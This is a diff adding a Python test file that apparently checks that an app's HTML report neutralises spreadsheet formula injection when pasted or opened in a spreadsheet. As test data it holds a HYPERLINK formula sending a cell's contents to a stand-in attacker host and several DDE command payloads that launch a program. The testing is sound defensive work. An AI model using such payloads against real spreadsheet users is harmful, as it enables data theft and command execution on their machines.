@@ -1,0 +1,74 @@
+"""A report that is pasted into a spreadsheet, or opened there, starts nothing."""
+
+from dataclasses import replace
+from datetime import UTC, datetime
+from html.parser import HTMLParser
+
+import pytest
+
+from dmm_desktop.core.models import FailingEntity
+from dmm_desktop.core.spreadsheet import harmless_lines
+from dmm_desktop.ui.reports.report_page import report_page
+from ui.run_scenes import scenes
+
+NOW = datetime(2026, 6, 30, 10, 44, tzinfo=UTC)
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
+
+
+class Cells(HTMLParser):
+    """The text of every element, line by line: each becomes a cell."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.lines: list[str] = []
+        self._is_style = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self._is_style = tag == "style"
+
+    def handle_data(self, data: str) -> None:
+        if not self._is_style:
+            self.lines += data.split("\n")
+
+
+@pytest.mark.parametrize("formula", [FORMULA, "+cmd|'/C calc'!A0", "@SUM(1)", "-1+cmd|'/C calc'!A0", " =1+1"])
+@pytest.mark.parametrize("before", ["", "a first line\n", "a first line\n  "])
+def test_no_cell_and_no_line_begins_like_a_formula(formula: str, before: str) -> None:
+    said = before + formula
+    run = replace(
+        scenes()["failed"][0] if "failed" in scenes() else next(iter(scenes().values()))[0],
+        zip_path=None,
+        message=formula,
+        status_word=formula,
+        connection=formula,
+        environment_name=formula,
+        configuration=said,
+        received=said,
+        failing_entities=(FailingEntity(formula, formula, formula, said, count=1),),
+    )
+    cells = Cells()
+    cells.feed(report_page(run, NOW))
+    lines = [line.strip() for line in cells.lines]
+    assert not [line for line in lines if line.startswith(("=", "+", "@")) or line.startswith("-1")]
+    assert len([line for line in lines if line == f"'{formula}" or line == f"' {formula.strip()}"]) >= 6
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "   --- End of inner exception stack trace ---",
+        '  "Count": -1,',
+        "  -1.5,",
+        "\tat A.b(c)",
+        "----------",
+        "a = b",
+        "",
+    ],
+)
+def test_other_lines_stay_as_they_are(line: str) -> None:
+    assert harmless_lines(f"{line}\n{line}") == f"{line}\n{line}"
+
+
+@pytest.mark.parametrize("line", ["---1+cmd|'/C calc'!A0", "--cmd|x", "  =1", "\t@x", "\uff1d1"])
+def test_lines_that_are_evaluated_are_marked(line: str) -> None:
+    assert harmless_lines(f"a\n{line}") == f"a\n'{line}"
